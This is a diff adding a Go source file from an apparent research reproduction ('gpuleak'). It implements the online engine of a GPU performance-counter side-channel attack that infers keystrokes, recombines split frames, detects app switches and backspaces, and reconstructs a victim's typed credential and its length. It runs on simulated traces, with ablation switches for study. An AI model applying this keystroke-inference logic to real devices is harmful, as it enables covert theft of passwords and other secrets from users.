@@ -1,0 +1,323 @@
+package attack
+
+import (
+	"math"
+
+	"gpuleak/internal/sim"
+	"gpuleak/internal/trace"
+)
+
+// InferredKey is one eavesdropped key press.
+type InferredKey struct {
+	At sim.Time
+	R  rune
+	// Alt is the runner-up classification and Margin the distance gap to
+	// it; low-margin keys are the first candidates for the §7.1
+	// guess-correction strategy.
+	Alt    rune
+	Margin float64
+}
+
+// OnlineOptions tunes the §5 online inference engine. Zero values select
+// the paper's defaults; the Disable* switches exist for ablation studies.
+type OnlineOptions struct {
+	// DedupWindow is Ti of §5.1: a PC change within Ti of an inferred key
+	// press cannot be another key press. Paper value: 75 ms.
+	DedupWindow sim.Time
+	// SplitWindow bounds how far apart two fragments of a split delta can
+	// be and still be combined. Defaults to 2.5 polling intervals.
+	SplitWindow sim.Time
+	// BurstGap/BurstLen parameterize app-switch detection (§5.2): a run of
+	// BurstLen large deltas, each within BurstGap of the previous one.
+	BurstGap sim.Time
+	BurstLen int
+
+	// Ablation switches.
+	DisableDedup        bool
+	DisableSplitCombine bool
+	DisableSwitchDetect bool
+	DisableCorrections  bool
+}
+
+func (o OnlineOptions) withDefaults(interval sim.Time) OnlineOptions {
+	if o.DedupWindow == 0 {
+		o.DedupWindow = 75 * sim.Millisecond
+	}
+	if o.SplitWindow == 0 {
+		if interval <= 0 {
+			interval = DefaultInterval
+		}
+		o.SplitWindow = interval*5/2 + sim.Millisecond
+	}
+	if o.BurstGap == 0 {
+		o.BurstGap = 50 * sim.Millisecond
+	}
+	if o.BurstLen == 0 {
+		o.BurstLen = 5
+	}
+	return o
+}
+
+// EngineStats counts what the engine did, for the §5.1 system-factor
+// experiments.
+type EngineStats struct {
+	Deltas      int
+	Keys        int
+	Duplicates  int
+	Splits      int // fragmented key presses recombined
+	Noise       int // deltas matching learned non-key signatures
+	NoiseSplits int // fragmented non-key events recombined
+	Recombined  int // pending fragments resolved by any combination
+	Unknown     int // deltas that entered the pending buffer
+	Corrections int
+	Switches    int
+}
+
+// Residual returns the changes that stayed unexplained after split
+// recombination — the §5.1 "system noise" count.
+func (s EngineStats) Residual() int {
+	r := s.Unknown - s.Recombined
+	if r < 0 {
+		r = 0
+	}
+	return r
+}
+
+// Engine is the streaming online-phase inference engine. Feed it deltas
+// in time order with Process; read the eavesdropped credential with Text.
+type Engine struct {
+	model *Model
+	opts  OnlineOptions
+	stats EngineStats
+
+	keys      []InferredKey
+	lastKeyAt sim.Time
+	haveKey   bool
+
+	pending      *trace.Delta
+	pendingLast  sim.Time
+	pendingChain int
+	suppressed   bool
+	runLen       int
+	runStartAt   sim.Time
+	lastBigAt    sim.Time
+	haveBig      bool
+	bigPx        float64
+
+	echoPrims     float64
+	haveEchoPrims bool
+	lastEchoAt    sim.Time
+
+	meanKeyNorm float64
+}
+
+// NewEngine builds an engine for one classification model. interval is
+// the sampler's polling period (used to bound split combining).
+func NewEngine(m *Model, interval sim.Time, opts OnlineOptions) *Engine {
+	maxPx := 0.0
+	for _, c := range m.Keys {
+		if c[3] > maxPx {
+			maxPx = c[3]
+		}
+	}
+	return &Engine{
+		model:       m,
+		opts:        opts.withDefaults(interval),
+		meanKeyNorm: m.meanKeyNorm(),
+		bigPx:       1.25 * maxPx,
+	}
+}
+
+// ProcessAll feeds a whole delta sequence through the engine.
+func (e *Engine) ProcessAll(ds []trace.Delta) {
+	for _, d := range ds {
+		e.Process(d)
+	}
+}
+
+// Process consumes one PC value change (Algorithm 1 plus the §5.2/§5.3
+// extensions).
+func (e *Engine) Process(d trace.Delta) {
+	e.stats.Deltas++
+	v := e.model.ClassifyDenoised(d.V)
+
+	// --- §5.2 app-switch detection ------------------------------------
+	// App switches redraw the full screen in a dense animation burst:
+	// runs of large, unclassifiable deltas spaced under 50 ms — far
+	// denser than human typing and far larger than any popup (Figure 13).
+	// Suppression ends when a delta again matches a signature learned on
+	// the target application's login screen: the user is back.
+	if !e.opts.DisableSwitchDetect {
+		if e.suppressed {
+			if v.IsKey || v.IsNoise {
+				// Back in the target application (§5.2's end-of-switch
+				// burst has passed and a known signature reappeared).
+				e.suppressed = false
+				e.stats.Switches++
+				e.runLen = 0
+				e.haveBig = false
+				// Fall through: this delta belongs to the target app.
+			} else {
+				return
+			}
+		} else if !v.IsKey && !v.IsNoise && d.V[3] >= e.bigPx {
+			if e.haveBig && d.At-e.lastBigAt < e.opts.BurstGap {
+				e.runLen++
+			} else {
+				e.runLen = 1
+				e.runStartAt = d.At
+			}
+			e.lastBigAt = d.At
+			e.haveBig = true
+			if e.runLen >= e.opts.BurstLen {
+				e.suppressed = true
+				e.stats.Switches++
+				e.pending = nil
+				// Retract keys mistakenly inferred since the burst began —
+				// they were switch-animation frames, not typing.
+				cutoff := e.runStartAt - sim.Millisecond
+				for len(e.keys) > 0 && e.keys[len(e.keys)-1].At >= cutoff {
+					e.keys = e.keys[:len(e.keys)-1]
+					e.stats.Keys--
+				}
+				return
+			}
+		} else if v.IsKey || v.IsNoise {
+			e.runLen = 0
+			e.haveBig = false
+		}
+	}
+
+	// --- §5.1 duplication suppression ----------------------------------
+	// A human cannot press two keys within Ti; a key-like delta right
+	// after an inferred press is the popup animation re-drawing.
+	if !e.opts.DisableDedup && e.haveKey && d.At-e.lastKeyAt < e.opts.DedupWindow {
+		if v.IsKey {
+			e.stats.Duplicates++
+			return
+		}
+	}
+
+	// --- Algorithm 1: classify, else try split combining ---------------
+	switch {
+	case v.IsKey:
+		e.inferKeyV(d.At, v)
+		e.pending = nil
+	case v.IsNoise:
+		e.stats.Noise++
+		e.handleNoise(d, v)
+		e.pending = nil
+	default:
+		if !e.opts.DisableSplitCombine && e.pending != nil &&
+			d.At-e.pendingLast <= e.opts.SplitWindow && e.pendingChain < 8 {
+			combined := e.pending.V.Add(d.V)
+			cv := e.model.ClassifyDenoised(combined)
+			if cv.IsKey || cv.IsNoise {
+				e.stats.Recombined++
+			}
+			if cv.IsKey {
+				// The change was split across multiple reads; the key press
+				// belongs at the earliest fragment's timestamp.
+				if !(e.haveKey && e.pending.At-e.lastKeyAt < e.opts.DedupWindow) || e.opts.DisableDedup {
+					e.stats.Splits++
+					e.inferKeyV(e.pending.At, cv)
+				} else {
+					e.stats.Duplicates++
+				}
+				e.pending = nil
+				return
+			}
+			if cv.IsNoise {
+				// A split non-key frame (popup dismissal, echo, launch)
+				// reassembled: consume it as noise.
+				e.stats.Noise++
+				e.stats.NoiseSplits++
+				e.handleNoise(trace.Delta{At: e.pending.At, V: combined}, cv)
+				e.pending = nil
+				return
+			}
+			// Keep accumulating: frames stretched by GPU contention can
+			// fragment across more than two reads. Chain growth is
+			// bookkeeping, not a new unexplained event.
+			e.pending = &trace.Delta{At: e.pending.At, V: combined}
+			e.pendingLast = d.At
+			e.pendingChain++
+			return
+		}
+		e.stats.Unknown++
+		cp := d
+		e.pending = &cp
+		e.pendingLast = d.At
+		e.pendingChain = 0
+	}
+}
+
+func (e *Engine) inferKeyV(at sim.Time, v Verdict) {
+	e.keys = append(e.keys, InferredKey{At: at, R: v.R, Alt: v.Alt, Margin: v.AltDist - v.Dist})
+	e.lastKeyAt = at
+	e.haveKey = true
+	e.stats.Keys++
+}
+
+// handleNoise implements §5.3 input-correction detection. The echo redraw
+// carries the input length in the LRZ visible-primitive counter (+2 per
+// character, −2 per deletion — Figure 14), and a backspace produces an
+// echo redraw with no preceding key press popup. Both signals agree on a
+// deletion: we retract the last inferred character when an echo update
+// arrives without a recent key press, corroborated by a −2 primitive step
+// when the echo delta was observed unfragmented.
+func (e *Engine) handleNoise(d trace.Delta, v Verdict) {
+	if v.Noise != NoiseEcho || e.opts.DisableCorrections {
+		return
+	}
+	// An echo belonging to a key press follows its popup within the press
+	// duration (a few hundred ms). A lone echo is a deletion.
+	lone := !e.haveKey || d.At-e.lastKeyAt > 320*sim.Millisecond
+	prims := d.V[0] // PERF_LRZ_VISIBLE_PRIM_AFTER_LRZ is index 0
+	minusTwo := e.haveEchoPrims && math.Abs(prims-e.echoPrims+2) < 0.5
+	if lone && minusTwo {
+		if len(e.keys) > 0 {
+			e.keys = e.keys[:len(e.keys)-1]
+			e.stats.Keys--
+		}
+		e.stats.Corrections++
+	}
+	e.echoPrims = prims
+	e.haveEchoPrims = true
+	e.lastEchoAt = d.At
+}
+
+// Keys returns the inferred key presses so far (corrections applied).
+func (e *Engine) Keys() []InferredKey { return e.keys }
+
+// Text returns the eavesdropped credential.
+func (e *Engine) Text() string {
+	rs := make([]rune, len(e.keys))
+	for i, k := range e.keys {
+		rs[i] = k.R
+	}
+	return string(rs)
+}
+
+// Stats returns the engine's bookkeeping counters.
+func (e *Engine) Stats() EngineStats { return e.stats }
+
+// Suppressed reports whether the engine currently believes the user is in
+// a foreign application.
+func (e *Engine) Suppressed() bool { return e.suppressed }
+
+// EstimatedLength recovers the current input length from the last echo
+// redraw's primitive count (§5.3: the field redraw carries base + 2n
+// triangles). This is the residual leak the paper highlights when popups
+// are disabled (§9.1): the attacker still learns how long the credential
+// is. Returns -1 when no echo has been observed.
+func (e *Engine) EstimatedLength() int {
+	if !e.haveEchoPrims {
+		return -1
+	}
+	n := int(e.echoPrims-2) / 2
+	if n < 0 {
+		n = 0
+	}
+	return n
+}
